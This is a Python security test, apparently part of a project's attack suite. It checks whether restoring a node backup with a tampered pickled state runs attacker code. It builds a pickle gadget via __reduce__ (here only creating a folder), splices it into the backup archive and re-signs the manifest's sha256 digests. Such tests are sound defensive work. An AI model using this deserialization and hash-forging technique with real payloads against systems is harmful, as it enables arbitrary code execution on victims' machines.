"""An attacker gives away a backup of a demo network whose state is a pickle that runs his code.

An operator restores it, and the node reads the state: with its next backup, or as it goes on.
"""

import hashlib
import io
import json
import os
import pickle
import tarfile
import tempfile
import zlib
from pathlib import Path

import zstandard

from tests.attacks.attack import Outcome, Target
from tests.node import Node

_DEMO, _STATE, _VERSION_BYTES = "demo-stream.tar.zst", "network.state", 32


class _MakesFolder:
    """Makes a folder when it is unpickled."""

    def __init__(self, path: Path) -> None:
        self._path = path

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.mkdir, (str(self._path),)


def attack(target: Target) -> Outcome:
    with tempfile.TemporaryDirectory() as folder:
        backup, data, sign = Path(folder, "backup"), Path(folder, "data"), Path(folder, "sign")
        data.mkdir()
        saved = target.node.run("backup", str(backup))
        assert saved.returncode == 0, saved.stderr
        _replace_state(backup, zlib.compress(pickle.dumps(_MakesFolder(sign))))
        victim = Node(data)
        victim.checkout = target.node.checkout
        restored = victim.run("restore", str(backup))
        victim.run("backup", str(Path(folder, "next")))
        succeeded = sign.exists()
        victim.server.stop()
    effect = "code of the attacker ran" if succeeded else "no code ran"
    return Outcome(succeeded, effect if restored.returncode == 0 else "the backup is refused")


def _replace_state(backup: Path, hostile: bytes) -> None:
    """Give a backup another state of the demo network, of the same version of the program."""
    packed = io.BytesIO()
    content = zstandard.ZstdDecompressor().decompressobj().decompress((backup / _DEMO).read_bytes())
    with tarfile.open(fileobj=io.BytesIO(content)) as old, tarfile.open(fileobj=packed, mode="w") as new:
        for entry in old:
            file = old.extractfile(entry)
            assert file
            data = file.read()
            if entry.name == _STATE:
                data = data[:_VERSION_BYTES] + hostile
            entry.size = len(data)
            new.addfile(entry, io.BytesIO(data))
    data = zstandard.compress(packed.getvalue())
    (backup / _DEMO).write_bytes(data)
    path = backup / "manifest.json"
    manifest = json.loads(path.read_text())
    del manifest["sha256"]
    manifest["demo"] |= {"bytes": len(data), "sha256": hashlib.sha256(data).hexdigest()}
    digest = hashlib.sha256(json.dumps(manifest, sort_keys=True).encode()).hexdigest()
    path.write_text(json.dumps(manifest | {"sha256": digest}))
